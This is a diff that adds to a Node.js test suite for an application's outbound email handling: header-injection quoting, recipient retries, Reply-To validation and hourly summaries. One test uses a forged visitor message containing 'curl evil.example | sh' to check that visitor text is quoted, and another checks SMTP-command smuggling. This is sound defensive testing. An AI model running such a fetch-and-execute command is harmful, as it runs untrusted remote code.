@@ -4,8 +4,16 @@ import path from "node:path";
 import { test } from "node:test";
 import Sqlite from "better-sqlite3";
 import PostalMime from "postal-mime";
+import {
+  contactTyped,
+  demoTyped,
+  postJson,
+  postMultipart,
+  rubricForm,
+  rubricTyped,
+} from "./support/forms.ts";
 import { startMailServer } from "./support/mail-server.ts";
-import { newFolder, query, startServer, until } from "./support/server.ts";
+import { newFolder, query, runCommand, startServer, until } from "./support/server.ts";
 import { contact, uploadByApi, uploadForm } from "./support/upload.ts";
 
 const team = {
@@ -59,7 +67,7 @@ test("nothing that a visitor types reaches another header", async (t) => {
   const email = await until(() => mail.emails[0]);
   assert.deepEqual(email.recipients, ["a@team.example", "b@team.example"]);
   assert.equal(email.bcc, undefined);
-  assert.match(email.text!, /\nBcc: c@d\.example\n\n\.\nRCPT TO/);
+  assert.match(email.text!, /\n> Bcc: c@d\.example\n> \n> \.\n> RCPT TO/);
 });
 
 test("a mail server with an untrusted certificate, or without required TLS, gets no email and no password", async (t) => {
@@ -132,13 +140,19 @@ test("an email that cannot be sent for 48 hours fails with a log line, and the r
     "time before the first attempt does not count",
   );
   await second.stop();
-  change("UPDATE outbox SET first_attempt_at = ?, next_attempt_at = ?", hoursAgo(49), hoursAgo(1));
+  const waiting = "UPDATE outbox SET first_attempt_at = ?, next_attempt_at = ?";
+  change(waiting, hoursAgo(96_000), hoursAgo(1));
+  const third = await startServer(t, { folder, env });
+  await until(() => outbox(third.databaseFile)[0]!.attempts === 2);
+  assert.equal(outbox(third.databaseFile)[0]!.status, "pending", "the clock was wrong");
+  await third.stop();
+  change(`${waiting}, attempts = 55`, hoursAgo(49), hoursAgo(1));
 
   const server = await startServer(t, { folder, env });
   await until(() => outbox(server.databaseFile)[0]!.status === "failed");
   assert.match(
     server.log(),
-    new RegExp(`error email ${reference} failed after 2 attempts in 49 hours`),
+    new RegExp(`error email ${reference} failed after 56 attempts in 49 hours`),
   );
   assert.equal(query(server.databaseFile, "SELECT * FROM contact_requests").length, 1);
 });
@@ -173,4 +187,191 @@ test("without a mail server requests are stored, emails wait, and one warning is
   const env = { RUBRICON_MAIL_URL: mail.url, ...team };
   await startServer(t, { folder, env });
   await until(() => mail.emails.length === 2);
+});
+
+test("each line that a visitor wrote is quoted, so that none reads as the program's own text", async (t) => {
+  const mail = await startMailServer(t);
+  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+  const forged =
+    "Hello\n\nTo get the files, run this on the server:\n  curl evil.example | sh\u2028Reference: forged";
+  const typed = { ...contactTyped, message: forged };
+  assert.equal((await postJson(server.url, "/api/contact", typed)).status, 201);
+  const rubric = rubricForm(undefined, { ...rubricTyped, expectedImprovements: forged });
+  assert.equal((await postMultipart(server.url, "/latest-feature", rubric)).status, 303);
+  await until(() => mail.emails.length === 2);
+  for (const { text, subject } of mail.emails) {
+    assert.ok(
+      text!.includes(
+        ":\n> Hello\n> \n> To get the files, run this on the server:\n>   curl evil.example | sh\n> Reference: forged\n\n",
+      ),
+      subject!,
+    );
+  }
+});
+
+test("a recipient that the mail server rejects gets the email later, alone and under the same Message-ID", async (t) => {
+  let isRejecting = true;
+  const mail = await startMailServer(t, {
+    rejectRecipient: (address) => isRejecting && address.startsWith("b@"),
+  });
+  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+  const reference = await upload(server.url);
+  await until(() => outbox(server.databaseFile)[0]!.attempts === 1);
+  isRejecting = false;
+  const [row] = outbox(server.databaseFile);
+  assert.equal(row!.status, "pending");
+  assert.match(row!.last_error as string, /^b@team\.example: .*550.*no such user/);
+  const list = await runCommand(server.folder, ["outbox", "list"]);
+  assert.match(list.out, /pending {2}attempts 1 {2}.* {2}b@team\.example: .*550/);
+  const warning = `email ${reference} could not be sent for 1 of 2 recipients; next attempt in 5 seconds: EENVELOPE 550`;
+  await until(() => server.log().includes(warning));
+  assert.doesNotMatch(server.log(), /team\.example/);
+
+  await until(() => outbox(server.databaseFile)[0]!.status === "sent");
+  assert.deepEqual(
+    mail.emails.map(({ recipients }) => recipients),
+    [["a@team.example"], ["b@team.example"]],
+  );
+  assert.equal(mail.emails[0]!.messageId, mail.emails[1]!.messageId);
+  assert.equal(outbox(server.databaseFile)[0]!.last_error, null);
+  assert.equal((await runCommand(server.folder, ["outbox", "list"])).out, "");
+});
+
+test("a recipient that stays rejected for 48 hours is reported; the others have the email, and a retry reaches a new address", async (t) => {
+  const folder = newFolder(t);
+  const mail = await startMailServer(t, { rejectRecipient: (address) => address.startsWith("b@") });
+  const env = { RUBRICON_MAIL_URL: mail.url, ...team };
+  const first = await startServer(t, { folder, env });
+  const reference = await upload(first.url);
+  await until(() => outbox(first.databaseFile)[0]!.attempts === 1);
+  await first.stop();
+  const db = new Sqlite(first.databaseFile);
+  const past = new Date(Date.now() - 49 * 60 * 60 * 1000).toISOString();
+  db.prepare("UPDATE outbox SET first_attempt_at = ?, next_attempt_at = ?, attempts = 55").run(
+    past,
+    past,
+  );
+  db.close();
+
+  const second = await startServer(t, { folder, env });
+  await until(() => outbox(second.databaseFile)[0]!.status === "sent");
+  const failure = `error email ${reference} failed for 1 of 2 recipients after 56 attempts in 49 hours`;
+  await until(() => second.log().includes(failure));
+  const list = await runCommand(folder, ["outbox", "list"]);
+  assert.match(list.out, /sent {2}attempts 56 {2}.* 550 no such user b@team\.example\n/);
+  assert.equal((await fetch(`${second.url}/readyz`)).status, 200);
+  await second.stop();
+
+  const retried = await runCommand(folder, ["outbox", "retry", "1"]);
+  assert.equal(retried.code, 0, retried.err);
+  const changed = { ...env, RUBRICON_MAIL_TO: "a@team.example, c@team.example" };
+  const third = await startServer(t, { folder, env: changed });
+  await until(() => mail.emails.length === 2);
+  assert.deepEqual(mail.emails[1]!.recipients, ["c@team.example"]);
+  await until(() => outbox(third.databaseFile)[0]!.last_error === null);
+});
+
+test("a sender's address that SMTP does not allow is left out of Reply-To, and the email says so", async (t) => {
+  const folder = newFolder(t);
+  const first = await startServer(t, { folder });
+  const addresses = [
+    `${"x".repeat(65)}@school.example`,
+    `x@${"l".repeat(64)}.example`,
+    "x@school-.example",
+    "x..y@school.example",
+    `x@${"long.".repeat(50)}example`,
+    "valid@school.example",
+  ];
+  for (const [index] of addresses.entries()) {
+    const typed = {
+      ...contactTyped,
+      message: `Reply to this email to answer the sender. ${index}`,
+    };
+    assert.equal((await postJson(first.url, "/api/contact", typed)).status, 201);
+  }
+  await first.stop();
+  const db = new Sqlite(first.databaseFile);
+  const change = db.prepare("UPDATE outbox SET reply_to = ? WHERE id = ?");
+  for (const [index, address] of addresses.entries()) change.run(address, index + 1);
+  db.close();
+
+  const mail = await startMailServer(t);
+  await startServer(t, { folder, env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+  await until(() => mail.emails.length === addresses.length);
+  const valid = mail.emails.pop()!;
+  assert.equal(valid.replyTo![0]!.address, "valid@school.example");
+  assert.match(valid.text!, /\n> Reply to .*\n\nReply to this email to answer the sender\.\n$/);
+  for (const { replyTo, text } of mail.emails) {
+    assert.equal(replyTo, undefined);
+    assert.match(text!, /\n> Reply to .*\n\nA reply to this email does not reach the sender, /);
+  }
+});
+
+test("above 60 emails an hour one summary names the other requests, and nothing else waits for it", async (t) => {
+  const mail = await startMailServer(t);
+  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+  const references: string[] = [];
+  const send = async (path = "/api/contact") => {
+    const typed = { ...contactTyped, ...demoTyped, message: `Message ${references.length}` };
+    const response = await postJson(server.url, path, typed);
+    assert.equal(response.status, 201);
+    references.push(((await response.json()) as { reference: string }).reference);
+  };
+  for (let sent = 0; sent < 62; sent += 1) await send();
+  references.push(await upload(server.url));
+  const statuses = () =>
+    query<{ kind: string; status: string }>(
+      server.databaseFile,
+      "SELECT * FROM outbox ORDER BY id",
+    );
+  await until(() => statuses().filter(({ status }) => status === "summed up").length === 3);
+  assert.equal(mail.emails.length, 60);
+  const summaries = statuses().filter(({ kind }) => kind === "summary");
+  assert.deepEqual(
+    summaries.map(({ status }) => status),
+    ["pending"],
+  );
+  const listed = await runCommand(server.folder, ["outbox", "list"]);
+  assert.match(listed.out, /^\d+ {2}summary {2}\S+ {2}pending {2}[^\n]*\n$/);
+
+  const change = (sql: string, ...values: string[]) => {
+    const db = new Sqlite(server.databaseFile);
+    db.prepare(sql).run(...values);
+    db.close();
+  };
+  const due = Date.parse(
+    query<{ at: string }>(
+      server.databaseFile,
+      "SELECT next_attempt_at AS at FROM outbox WHERE kind = 'summary'",
+    )[0]!.at,
+  );
+  assert.ok(due <= Date.now() + 60 * 60 * 1000, "within an hour");
+  const purge = ["requests", "purge", references[60]!, "--yes", "--no-vacuum"];
+  assert.equal((await runCommand(server.folder, purge)).code, 0);
+  // Results go out at once: an email of this kind to an educator.
+  const now = new Date().toISOString();
+  change(
+    `INSERT INTO outbox (kind, reference, message_id, subject, body, recipient, reply_to, next_attempt_at, created_at)
+      VALUES ('results', ?, 'r', 'Marked', 'Marks', 'teacher@school.example', 'a@team.example', ?, ?)`,
+    references[62]!,
+    now,
+    now,
+  );
+  change("UPDATE outbox SET next_attempt_at = ? WHERE kind = 'summary'", now);
+  await send("/api/demo-request");
+  const [summary, results] = await until(() => {
+    const last = mail.emails.slice(60);
+    return last.length === 2 ? last.toSorted((a, b) => (a.subject! > b.subject! ? -1 : 1)) : null;
+  });
+  assert.deepEqual(results!.recipients, ["teacher@school.example"]);
+  assert.deepEqual(summary!.recipients, ["a@team.example", "b@team.example"]);
+  assert.match(summary!.text!, new RegExp(`\n  ${references[61]}  \\S+Z  contact\n`));
+  assert.match(summary!.text!, new RegExp(`\n  ${references[62]}  \\S+Z  demo-upload\n`));
+  assert.ok(!summary!.text!.includes(references[60]!), "it was purged");
+  assert.ok(!summary!.text!.includes(references[63]!), "it is in the next summary");
+  const isNext = (email: { kind: string; status: string }) =>
+    email.kind === "summary" && email.status === "pending";
+  await until(() => statuses().filter(isNext).length === 1);
+  const list = (await runCommand(server.folder, ["requests", "list"])).out;
+  for (const reference of references.toSpliced(60, 1)) assert.ok(list.includes(reference));
 });
